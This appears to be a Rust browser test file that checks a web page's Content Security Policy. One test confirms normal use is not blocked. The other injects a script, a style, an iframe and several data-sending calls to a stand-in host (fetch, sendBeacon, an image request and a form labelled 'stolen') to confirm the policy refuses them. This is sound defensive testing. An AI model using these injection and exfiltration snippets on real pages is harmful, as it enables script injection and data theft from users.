//! “Nothing leaves this page” is the page's policy, and the policy keeps nothing from working.

use headroom_tests::browser::{Outcome, Page, Window};

use crate::planned;

#[tokio::test]
async fn everything_works_and_the_policy_refuses_nothing() -> Outcome<()> {
    let page = Page::open(Window::default()).await?;
    page.watch_policy().await?;
    page.client.refresh().await?;
    planned(&page).await?;
    for tab in ["#t-plan", "#t-commands", "#t-outlook"] {
        page.client.find(fantoccini::Locator::Css(tab)).await?.click().await?;
    }
    page.get("button", "Share").await?.click().await?;
    page.get("button", "Copy link").await?.click().await?;
    page.get("button", "Close").await?.click().await?;
    page.wait_until(
        "the typeface",
        "return [...document.fonts].some((face) => face.family.includes('Inter') && face.status === 'loaded')",
    )
    .await?;
    assert_eq!(page.refused().await?, Vec::<String>::new());
    assert_eq!(page.complaints().await?, Vec::<String>::new());
    page.close().await
}

#[tokio::test]
async fn the_policy_refuses_what_is_not_the_pages_own() -> Outcome<()> {
    let page = Page::open(Window::default()).await?;
    page.watch_policy().await?;
    page.client.refresh().await?;
    page.evaluate(
        "const script = document.createElement('script');
         script.textContent = 'window.owned = true';
         document.body.append(script);
         const style = document.createElement('style');
         style.textContent = 'body { display: none }';
         document.body.append(style);
         const frame = document.createElement('iframe');
         frame.src = 'https://example.org/';
         document.body.append(frame);
         fetch('https://example.org/?stolen').catch(() => {});
         navigator.sendBeacon('https://example.org/', 'stolen');
         new Image().src = 'https://example.org/stolen.png';
         document.body.insertAdjacentHTML('beforeend', '<form action=\"https://example.org/\"></form>');
         document.forms[document.forms.length - 1].submit();",
    )
    .await?;
    page.wait_until("seven refusals", "return window.refused.length >= 7").await?;
    let refused = page.refused().await?;
    for directive in ["script-src-elem", "style-src-elem", "frame-src", "connect-src", "img-src", "form-action"] {
        assert!(refused.iter().any(|one| one.starts_with(directive)), "{directive} in {refused:?}");
    }
    assert_eq!(page.evaluate("return window.owned ?? null").await?, serde_json::Value::Null);
    page.close().await
}
